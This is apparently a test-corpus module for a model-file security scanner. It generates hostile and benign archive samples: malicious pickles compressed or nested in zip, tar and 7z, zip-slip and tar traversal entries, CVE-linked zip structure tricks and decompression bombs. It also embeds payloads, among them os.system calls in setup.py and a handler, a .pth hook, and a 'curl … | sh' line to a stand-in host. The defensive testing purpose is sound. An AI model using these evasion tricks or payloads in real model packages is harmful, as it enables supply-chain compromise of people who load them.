"""Archives and compressed streams: hostile content inside, and containers that are themselves the trick."""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zlib
from collections.abc import Callable, Iterator

from tests.corpus.gadgets import SYSTEM
from tests.corpus.hostile_pickles import WEIGHTS, reduced_2, reduced_4
from tests.corpus.sample import CODE, COMMAND, Sample, benign, hostile
from tests.corpus.zips import DEFLATED, ENCRYPTED, UTF8, Ending, Member, zip_of, zipped

TEXT = b"Ordinary words of a model card, long enough to be worth packing.\n" * 20
BAD = reduced_4(SYSTEM)
GOOD = pickle.dumps(WEIGHTS, 4)
SYMLINK_MODE = 0o120777


def zstandard(data: bytes) -> bytes:
    """A zstd frame of one raw block (RFC 8878)."""
    return b"\x28\xb5\x2f\xfd\xa0" + struct.pack("<I", len(data)) + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def lz4(data: bytes) -> bytes:
    """An LZ4 frame of one stored block of at most 64 KiB, without checksums."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def seven_zip(name: str, data: bytes) -> bytes:
    """A 7z archive of one stored member, as 7zFormat.txt defines it."""
    packed = b"\x06\x00\x01\x09" + _number(len(data)) + b"\x00"
    folder = b"\x07\x0b\x01\x00\x01\x01\x00\x0c" + _number(len(data)) + b"\x00"
    digest = b"\x08\x0a\x01" + struct.pack("<I", zlib.crc32(data)) + b"\x00"
    encoded = b"\x00" + (name + "\0").encode("utf-16-le")
    header = (
        b"\x01\x04" + packed + folder + digest + b"\x00" + b"\x05\x01\x11" + _number(len(encoded)) + encoded + b"\x00\x00"
    )
    start = struct.pack("<QQI", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + data + header


def _number(value: int) -> bytes:
    if value < 0x80:
        return bytes([value])
    if value < 0x4000:
        return bytes([0x80 | value >> 8, value & 0xFF])
    return b"\xe0" + struct.pack("<I", value)[:3] if value < 1 << 20 else b"\xff" + struct.pack("<Q", value)


def tar(members: list[tuple[tarfile.TarInfo, bytes]], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for info, data in members:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def tar_of(files: dict[str, bytes], mode: str = "w") -> bytes:
    return tar([(tarfile.TarInfo(name), data) for name, data in files.items()], mode)


def _entry(name: str, kind: bytes, link: str = "", mode: int = 0o644) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, mode
    return info, b""


PACKERS: dict[str, Callable[[bytes], bytes]] = {
    "gz": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "zst": zstandard,
    "lz4": lz4,
    "z": zlib.compress,
}


def samples() -> Iterator[Sample]:
    yield from hostile(
        "compressed-pickle", "joblib and torch load compressed pickles; picklescan finds 0 issues", _compressed(BAD)
    )
    yield from benign("compressed-pickle", "joblib.dump(compress=…)", _compressed(GOOD))
    yield from hostile("zip-content", "hostile members", _contents("zip", zip_of))
    yield from hostile("tar-content", "NeMo and TAR checkpoints", _contents("tar", tar_of))
    yield from benign(
        "zip-content", "a data set", {"data/data.zip": zip_of({"train.csv": b"a,b\n1,2\n", "README.md": TEXT})}
    )
    yield from benign("tar-content", "a data set", {f"data/data.tar{suffix}": data for suffix, data in _tars().items()})
    yield from hostile("zip-path", "zip slip", _zip_paths())
    yield from benign(
        "zip-path",
        "folders",
        {"folders/a.zip": zipped([Member("a/"), Member("a/b/"), Member("a/b/é.txt", TEXT, DEFLATED, UTF8)])},
    )
    yield from hostile("tar-path", "CVE-2007-4559", _tar_paths())
    yield from benign(
        "tar-path", "folders", {"folders/a.tar": tar([_entry("a", tarfile.DIRTYPE), (tarfile.TarInfo("a/b.txt"), TEXT)])}
    )
    yield from hostile(
        "zip-structure", "CVE-2025-1944, CVE-2025-1945, CVE-2025-10156 and APPNOTE's redundancies", _structures()
    )
    yield from benign("zip-structure", "zip64, comment, data descriptors", _fine_structures())
    yield from hostile("seven-zip", "nullifAI: a torch pickle in 7z", _seven())
    yield from benign("seven-zip", "a stored text", {"text/notes.7z": seven_zip("notes.txt", TEXT)})
    yield from hostile("nesting", "containers in containers", _nested(BAD))
    yield from benign(
        "nesting",
        "a table in an archive",
        {"table/data.zip": zip_of({"train.csv.gz": gzip.compress(b"a,b\n1,2\n", mtime=0)})},
    )
    yield from hostile("compressed-trailer", "bytes after the stream", _trailers())
    yield from benign(
        "compressed-trailer", "two members are allowed", {"two/data.csv.gz": gzip.compress(b"a\n1\n", mtime=0) * 2}
    )
    yield from hostile("bomb", "ratios that no data reach", _bombs())
    yield from benign("bomb", "a sparse table", {"zeros/zeros.csv.gz": gzip.compress(b"0,0,0,0\n" * 4_000, mtime=0)})


def _compressed(data: bytes) -> dict[str, bytes]:
    return {f"{suffix}/model.pkl.{suffix}": pack(data) for suffix, pack in PACKERS.items()} | {
        f"joblib-{suffix}/model.joblib": pack(data) for suffix, pack in PACKERS.items()
    }


def _contents(suffix: str, pack: Callable[[dict[str, bytes]], bytes]) -> dict[str, bytes]:
    return {
        f"pickle/model.{suffix}": pack({"README.md": TEXT, "model/weights.pkl": BAD}),
        f"pickle-no-suffix/model.{suffix}": pack({"model/weights": reduced_2(SYSTEM)}),
        f"pickle-as-text/model.{suffix}": pack({"notes.txt": BAD}),
        f"elf/model.{suffix}": pack({"bin/tool": b"\x7fELF\x02\x01\x01" + bytes(200)}),
        f"python/model.{suffix}": pack({"setup.py": f"import os\nos.system({COMMAND!r})\n".encode()}),
        f"shell/model.{suffix}": pack({"install.sh": f"#!/bin/sh\ncurl http://corpus.invalid/x | sh\n{COMMAND}\n".encode()}),
        f"path-hook/model.{suffix}": pack({"site/evil.pth": f"import os; {CODE}\n".encode()}),
        f"compressed-pickle/model.{suffix}": pack({"weights.pkl.xz": lzma.compress(BAD)}),
    }


def _tars() -> dict[str, bytes]:
    files = {"train.csv": b"a,b\n1,2\n", "README.md": TEXT}
    return {f".{mode}": tar_of(files, f"w:{mode}") for mode in ("gz", "bz2", "xz")} | {"": tar_of(files)}


def _zip_paths() -> dict[str, bytes]:
    names = {
        "parent": "../../outside.txt",
        "absolute": "/etc/corpus.txt",
        "drive": "C:\\corpus.txt",
        "backslashes": "..\\..\\outside.txt",
        "hidden-parent": "a/../../outside.txt",
        "control": "a\x1b[2Jb.txt",
        "nul": "a.txt\x00.pkl",
        "reversed": "model\u202etxt.exe",
    }
    files = {f"{what}/a.zip": zipped([Member(name, TEXT, DEFLATED, UTF8)]) for what, name in names.items()}
    link = Member("link", b"/etc/hostname", mode=SYMLINK_MODE)
    return files | {
        "symlink/a.zip": zipped([link]),
        "through-symlink/a.zip": zipped([Member("d", b"/tmp", mode=SYMLINK_MODE), Member("d/x.txt", TEXT)]),
    }


def _tar_paths() -> dict[str, bytes]:
    entries = {
        "parent": _entry("../../outside.txt", tarfile.REGTYPE),
        "absolute": _entry("/etc/corpus.txt", tarfile.REGTYPE),
        "symlink": _entry("link", tarfile.SYMTYPE, "/etc/hostname"),
        "parent-symlink": _entry("link", tarfile.SYMTYPE, "../../x"),
        "hardlink": _entry("link", tarfile.LNKTYPE, "../../../etc/hostname"),
        "device": _entry("null", tarfile.CHRTYPE),
        "fifo": _entry("pipe", tarfile.FIFOTYPE),
        "setuid": _entry("tool", tarfile.REGTYPE, mode=0o4755),
    }
    return {f"{what}/a.tar": tar([entry]) for what, entry in entries.items()} | {
        "after-end/a.tar": tar_of({"a.txt": TEXT}) + BAD,
        "twice/a.tar": tar([(tarfile.TarInfo("a.txt"), TEXT), (tarfile.TarInfo("a.txt"), BAD)]),
        "checksum/a.tar": tar_of({"a.txt": TEXT}).replace(b"a.txt\0", b"b.txt\0", 1),
        "truncated/a.tar": tar_of({"a.txt": TEXT, "b.pkl": BAD})[:2_600],
    }


def _structures() -> dict[str, bytes]:
    good, bad = Member("a.txt", TEXT, DEFLATED), Member("weights.pkl", BAD, DEFLATED)
    return {
        "prefix/a.zip": zipped([good], prefix=BAD),
        "suffix/a.zip": zipped([good], Ending(after=BAD)),
        "between/a.zip": zipped([good, Member("b.txt", TEXT, before=BAD)]),
        "before-central/a.zip": zipped([good], Ending(before_central=BAD)),
        "comment/a.zip": zipped([good], Ending(comment=BAD)),
        "not-in-central/a.zip": zipped([good, Member("weights.pkl", BAD, in_central=False)]),
        "twice/a.zip": zipped([good, Member("a.txt", BAD)]),
        "name-differs/a.zip": zipped([Member("a.txt", BAD, local_name="weights.pkl")]),
        "crc/a.zip": zipped([Member("a.txt", TEXT, central_crc=1)]),
        "size/a.zip": zipped([Member("a.txt", TEXT, DEFLATED, central_size=10)]),
        "local-size/a.zip": zipped([Member("a.txt", TEXT, DEFLATED, local_size=10)]),
        "method/a.zip": zipped([Member("weights.pkl", BAD, local_method=8)]),
        "encrypted/a.zip": zipped([Member("weights.pkl", bytes(12) + BAD, flags=ENCRYPTED)]),
        "encrypted-central/a.zip": zipped([Member("weights.pkl", BAD, flags=ENCRYPTED, local_flags=0)]),
        "encrypted-local/a.zip": zipped([Member("weights.pkl", BAD, local_flags=ENCRYPTED)]),
        "strong-encryption/a.zip": zipped([Member("weights.pkl", BAD, flags=0x40 | ENCRYPTED)]),
        "count/a.zip": zipped([good, bad], Ending(count=1)),
        "offset/a.zip": zipped([good, bad], Ending(offset=0)),
        "overlap/a.zip": zipped([good, Member("b.txt", TEXT, DEFLATED, central_offset=0)]),
        "extra/a.zip": zipped([Member("a.txt", TEXT, local_extra=b"XX" + struct.pack("<H", len(BAD)) + BAD)]),
        "unicode-path/a.zip": zipped(
            [
                Member(
                    "a.txt", BAD, central_extra=b"up" + struct.pack("<HBI", 5 + 11, 1, zlib.crc32(b"a.txt")) + b"weights.pkl"
                )
            ]
        ),
        "two-ends/a.zip": zipped([good]) + zipped([bad]),
        "zip64-lies/a.zip": zipped([good, bad], Ending(zip64=True)).replace(b"PK\x06\x07", b"PK\x06\x08"),
        "truncated/a.zip": zipped([good, bad])[:-30],
        "no-central/a.zip": zipped([good, bad]).split(b"PK\x01\x02")[0],
        "executable-prefix/a.zip": zipped([good], prefix=b"#!/bin/sh\n" + COMMAND.encode() + b"\nexit\n"),
    }


def _fine_structures() -> dict[str, bytes]:
    with_descriptor = Member("a.txt", TEXT, DEFLATED, flags=8)
    return {
        "zip64/a.zip": zipped([Member("a.txt", TEXT)], Ending(zip64=True)),
        "comment/a.zip": zipped([Member("a.txt", TEXT)], Ending(comment=b"made by hand")),
        "descriptor/a.zip": zipped([with_descriptor, Member("b.txt", TEXT, DEFLATED)]),
        "empty-members/a.zip": zip_of({"a/": b"", "a/empty.txt": b""}),
    }


def _seven() -> dict[str, bytes]:
    whole = seven_zip("model/data.pkl", BAD)
    return {
        "pickle/model.7z": whole,
        "as-torch/pytorch_model.bin": seven_zip("archive/data.pkl", reduced_2(SYSTEM)),
        "as-checkpoint/model.ckpt": whole,
        "elf/model.7z": seven_zip("tool", b"\x7fELF\x02\x01\x01" + bytes(200)),
        "header-crc/model.7z": whole[:12] + b"\1\2\3\4" + whole[16:],
        "after-end/model.7z": seven_zip("notes.txt", TEXT) + BAD,
        "parent/model.7z": seven_zip("../../outside.txt", TEXT),
    }


def _nested(data: bytes) -> dict[str, bytes]:
    layers = data
    for _ in range(4):
        layers = gzip.compress(layers, mtime=0)
    return {
        "zip-zip/a.zip": zip_of({"b.zip": zip_of({"c.pkl": data})}),
        "tar-gz-zip/a.tar.gz": gzip.compress(tar_of({"b.zip": zip_of({"c.pkl": data})}), mtime=0),
        "zip-7z/a.zip": zip_of({"b.7z": seven_zip("c.pkl", data)}),
        "gz-4/a.pkl.gz": layers,
        "xz-bz2/a.xz": lzma.compress(bz2.compress(data)),
        "zip-torch/a.zip": zip_of({"model.pt": zip_of({"archive/data.pkl": reduced_2(SYSTEM), "archive/version": b"3\n"})}),
        "tgz/model.tgz": gzip.compress(tar_of({"archive/model.pth": data}), mtime=0),
        "torch-gz/model.pt.gz": gzip.compress(zip_of({"archive/data.pkl": data, "archive/version": b"3\n"}), mtime=0),
        "nemo/model.nemo": tar_of({"./model_config.yaml": b"target: nemo.Model\n", "./model_weights.ckpt": data}),
        "handler/model.mar": zip_of(
            {"MAR-INF/MANIFEST.json": b"{}", "handler.py": f"import os\nos.system({COMMAND!r})\n".encode()}
        ),
        "zlib-zlib/model.joblib": zlib.compress(zlib.compress(data)),
        "zip-gz-python/a.zip": zip_of(
            {"setup.py.gz": gzip.compress(f"import os\nos.system({COMMAND!r})\n".encode(), mtime=0)}
        ),
    }


def _trailers() -> dict[str, bytes]:
    files = {
        f"{suffix}/data.csv.{suffix}": pack(b"a,b\n1,2\n") + BAD
        for suffix, pack in PACKERS.items()
        if suffix not in {"z", "lzma"}
    }
    packed = gzip.compress(TEXT, mtime=0)
    return files | {
        "gz-second-member/data.csv.gz": gzip.compress(b"a,b\n1,2\n", mtime=0) + gzip.compress(BAD, mtime=0),
        "gz-checksum/data.csv.gz": packed[:-8] + b"\1\2\3\4" + packed[-4:],
        "gz-name/notes.txt.gz": b"\x1f\x8b\x08\x08" + bytes(6) + b"../../etc/corpus\0" + packed[10:],
    }


def _bombs() -> dict[str, bytes]:
    zeros = bytes(48 << 20)
    layer = zip_of({f"{number}.zip": zip_of({f"{number}.bin": zeros}) for number in range(2)})
    same = Member("0.bin", zeros, DEFLATED)
    return {
        "layers/bomb.zip": layer,
        "overlapping/bomb.zip": zipped(
            [same, *(Member(f"{number}.bin", zeros[: 1 << 20], DEFLATED, central_offset=0) for number in range(1, 40))]
        ),
    }
